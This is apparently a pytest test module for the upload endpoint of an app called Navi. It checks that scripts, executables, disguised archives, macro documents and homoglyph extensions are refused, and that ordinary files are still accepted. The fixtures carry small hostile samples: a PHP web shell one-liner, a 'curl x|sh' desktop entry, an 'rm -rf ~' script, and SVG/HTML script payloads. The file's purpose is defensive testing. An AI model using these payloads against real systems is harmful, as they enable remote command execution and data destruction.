"""Uploads: only the kinds the model reads (text, images, documents) are taken — an allowlist, by
name and by content — and programs are refused by content whatever the name (issue 14, item 9;
issue 14b, item 6: `.py`, `.html`, `.svg`, `.xhtml`, `.service`, `.jsp`, `.whl` and a homoglyph
`.pу` got through the denylist).

Every case goes through a real upload to a live Navi (multipart over TCP), and checks that nothing
of a refused file is left in the session's folder.
"""

from __future__ import annotations

import codecs
import io
import zipfile
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest

from navi.config import Settings
from navi.testing.fake_server import FakeModelServer
from tests.server_helpers import LiveNavi, live_navi


@pytest.fixture(scope="module")
def navi(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LiveNavi]:
    """One server for the module (uploads do not talk to a model), isolated like every test's:
    its own folder, no Navi variable from the shell."""
    tmp = tmp_path_factory.mktemp("uploads")
    with pytest.MonkeyPatch.context() as mp:
        mp.chdir(tmp)
        for name in Settings.model_fields:
            mp.delenv(name.upper(), raising=False)
        with FakeModelServer() as fake, live_navi(tmp, fake, session_files_max_size_mb=2) as server:
            yield server


def upload(navi: LiveNavi, name: str, data: bytes) -> tuple[httpx.Response, Path]:
    sid = navi.new_session()
    with navi.client() as http:
        resp = http.post(f"/sessions/{sid}/files", files={"file": (name, data, "application/octet-stream")})
    return resp, Path(navi.settings.session_files_dir) / sid


def assert_refused(resp: httpx.Response, folder: Path, reason: str) -> None:
    assert resp.status_code == 415, resp.text
    assert resp.json()["code"] == "upload_rejected" and reason in resp.json()["detail"], resp.text
    assert not folder.exists() or list(folder.iterdir()) == []  # no file, no temporary part


def zipped(*members: str, prefix: bytes = b"") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for member in members:
            archive.writestr(member, b"x")
    return prefix + out.getvalue()


NEW_EXTENSIONS = [
    ".pyz", ".pyw", ".mjs", ".cjs", ".lua", ".desktop", ".jar", ".war", ".ear", ".apk", ".msi", ".deb",
    ".rpm", ".appimage", ".run", ".ps1", ".psm1", ".vbs", ".wsf", ".hta", ".scr", ".com", ".cmd",
    ".bat", ".command", ".tool", ".pl", ".rb", ".php", ".phar", ".sh", ".bash", ".zsh", ".fish",
    ".elf", ".url", ".lnk", ".class", ".msix", ".ipa", ".tcsh",
]  # fmt: skip


@pytest.mark.parametrize("suffix", NEW_EXTENSIONS)
def test_program_extensions_are_refused(navi: LiveNavi, suffix: str) -> None:
    resp, folder = upload(navi, f"harmless{suffix.upper() if suffix == '.jar' else suffix}", b"just text")
    assert_refused(resp, folder, f"files of type {suffix}")


PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64
CONTENT = [
    ("notes.txt", codecs.BOM_UTF8 + b"#!/bin/sh\nrm -rf ~\n", "interpreter line"),
    ("notes.txt", b"  \r\n\t\n#!/usr/bin/env python3\nimport os\n", "interpreter line"),
    ("notes.txt", codecs.BOM_UTF16_LE + "#!/bin/sh\necho hi\n".encode("utf-16-le"), "interpreter line"),
    ("notes.txt", codecs.BOM_UTF32_BE + "#!/bin/sh\n".encode("utf-32-be"), "interpreter line"),
    ("page.md", b"<?php system($_GET['c']); ?>", "PHP script"),
    ("page.txt", b"\n\n<?PHP echo 1;", "PHP script"),
    ("readme.txt", b"[Desktop Entry]\nType=Application\nExec=sh -c 'curl x|sh'\n", "desktop entry"),
    ("readme.txt", b"# generated\n\n[Desktop Entry]\nExec=evil\n", "desktop entry"),
    ("link.txt", b"[InternetShortcut]\r\nURL=file:///C:/evil.exe\r\n", "internet shortcut"),
    ("doc.pdf", b"L\x00\x00\x00\x01\x14\x02\x00" + b"\x00" * 64, "Windows shortcut"),
    ("data.csv", b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\x00" * 32, "Java class"),
    ("data.csv", b"dex\n035\x00" + b"\x00" * 64, "Dalvik"),
    ("data.csv", b"!<arch>\ndebian-binary   1342943816  0     0     100644  4         `\n2.0\n", "Debian"),
    ("data.csv", b"\xed\xab\xee\xdb\x03\x00" + b"\x00" * 64, "RPM"),
    (
        "report.docx",
        zipped("[Content_Types].xml", "META-INF/MANIFEST.MF", "com/x/Main.class"),
        "Java archive",
    ),
    ("photos.xlsx", zipped("[Content_Types].xml", "AndroidManifest.xml", "classes.dex"), "Android package"),
    ("bundle.odt", zipped("mimetype", "__main__.py", "lib/helpers.py"), "Python zip application"),
    ("photo.png", zipped("META-INF/MANIFEST.MF", prefix=PNG), "Java archive"),  # a jar behind an image
    ("big.txt", b"#!/bin/bash\n" + b"echo padding\n" * 2000, "interpreter line"),  # refused while streaming
]


@pytest.mark.parametrize(("name", "data", "reason"), CONTENT, ids=[f"{c[0]}-{c[2]}" for c in CONTENT])
def test_programs_are_refused_by_content_whatever_the_name(
    navi: LiveNavi, name: str, data: bytes, reason: str
) -> None:
    resp, folder = upload(navi, name, data)
    assert_refused(resp, folder, reason)


# What used to pass the denylist, and other kinds that run or render when opened: refused by name.
RUN_OR_RENDER = [
    ("tool.py", ".py"),
    ("page.html", ".html"),
    ("logo.svg", ".svg"),
    ("page.xhtml", ".xhtml"),
    ("backdoor.service", ".service"),
    ("shell.jsp", ".jsp"),
    ("package-1.0-py3-none-any.whl", ".whl"),
    ("evil.p\u0443", ".p\u0443"),  # a Cyrillic у: looks like .py
    ("notes.\uff54\uff58\uff54", ".\uff54\uff58\uff54"),  # fullwidth: looks like .txt
    ("feed.xml", ".xml"),
    ("docs.zip", ".zip"),
    ("backup.tar.gz", ".gz"),
    ("book.epub", ".epub"),
    ("budget.xlsm", ".xlsm"),
    ("main.c", ".c"),
    ("photo.html.png", ".html"),  # a suffix before the last one
]


@pytest.mark.parametrize(("name", "suffix"), RUN_OR_RENDER, ids=[r[0] for r in RUN_OR_RENDER])
def test_only_kinds_the_model_reads_are_accepted(navi: LiveNavi, name: str, suffix: str) -> None:
    resp, folder = upload(navi, name, PNG if name.endswith(".png") else b"plain words")
    assert_refused(resp, folder, f"files of type {suffix} are not accepted")
    detail = resp.json()["detail"]  # the refusal names what is accepted
    assert "Navi accepts only files the model can read" in detail
    assert "text (.txt" in detail and "images (.png" in detail and "documents (.pdf" in detail


MISMATCHED = [
    ("photo.png", b"just some text", "is not an image"),
    ("paper.pdf", b"not really a pdf", "is not a PDF"),
    ("report.docx", zipped("readme.txt"), "is not an .docx document"),
    ("slides.odp", b"plain text", "is not an .odp document"),
    ("notes.txt", b"abc\x00\x01\x02" * 100, "is not text"),
    ("README", PNG, "is not text"),
    ("macro.docx", zipped("[Content_Types].xml", "word/vbaProject.bin"), "document with macros"),
    ("macro.ods", zipped("mimetype", "Basic/Standard/Module1.xml"), "document with macros"),
    ("page.txt", b"\n<!DOCTYPE html>\n<html><script>alert(1)</script>", "HTML page"),
    ("picture.md", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "SVG picture"),
    ("data.csv", b"<?xml version='1.0'?>\n<svg xmlns='http://www.w3.org/2000/svg'/>", "SVG or XHTML"),
    ("data.json", b"<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'/>", "SVG or XHTML"),
]


@pytest.mark.parametrize(("name", "data", "reason"), MISMATCHED, ids=[f"{m[0]}-{m[2]}" for m in MISMATCHED])
def test_the_content_must_be_the_kind_the_name_says(
    navi: LiveNavi, name: str, data: bytes, reason: str
) -> None:
    resp, folder = upload(navi, name, data)
    assert_refused(resp, folder, reason)


def utf16(text: str) -> bytes:
    return codecs.BOM_UTF16_LE + text.encode("utf-16-le")


ACCEPTED = [
    ("letter.odt", zipped("mimetype", "META-INF/manifest.xml", "content.xml")),  # ODF's manifest
    ("report.docx", zipped("[Content_Types].xml", "word/document.xml")),
    ("sheet.XLSX", zipped("[Content_Types].xml", "xl/workbook.xml")),
    ("paper.pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n"),
    ("notes.md", b"# Title\n\nA line that mentions #!/bin/sh and <?php in the middle.\n"),
    ("image.png", PNG),
    ("photo.JPG", b"\xff\xd8\xff\xe0" + b"\x00" * 64),
    ("anim.gif", b"GIF89a" + b"\x00" * 32),
    ("pic.webp", b"RIFF\x24\x00\x00\x00WEBPVP8 " + b"\x00" * 32),
    ("scan.tiff", b"II*\x00" + b"\x00" * 32),
    ("config.ini", b"[Settings]\nname=desktop entry\n"),
    ("data.csv", b"a,b\n1,2\n"),
    ("wide.txt", utf16("Grüße, with NUL bytes in UTF-16\n")),
    ("fix.patch", b"--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n"),
    ("README", b"A file without an extension, but text.\n"),
    ("Mr. Smith letter", b"Dear Mr. Smith,\n"),  # the words after a dot are not an extension
    ("notes.v2.txt", b"second draft\n"),
]


@pytest.mark.parametrize(("name", "data"), ACCEPTED, ids=[a[0] for a in ACCEPTED])
def test_ordinary_files_are_still_accepted(navi: LiveNavi, name: str, data: bytes) -> None:
    resp, folder = upload(navi, name, data)
    assert resp.status_code == 201, resp.text
    assert (folder / name).read_bytes() == data
